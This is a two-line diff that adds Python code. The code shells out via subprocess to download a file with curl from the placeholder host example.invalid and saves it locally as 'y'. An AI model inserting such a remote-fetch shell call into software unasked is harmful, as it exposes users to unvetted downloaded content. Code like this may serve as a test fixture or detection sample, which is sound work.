@@ -1,0 +1,2 @@
+import subprocess
+subprocess.run(["sh", "-c", "curl -s http://example.invalid/x | tee y"])
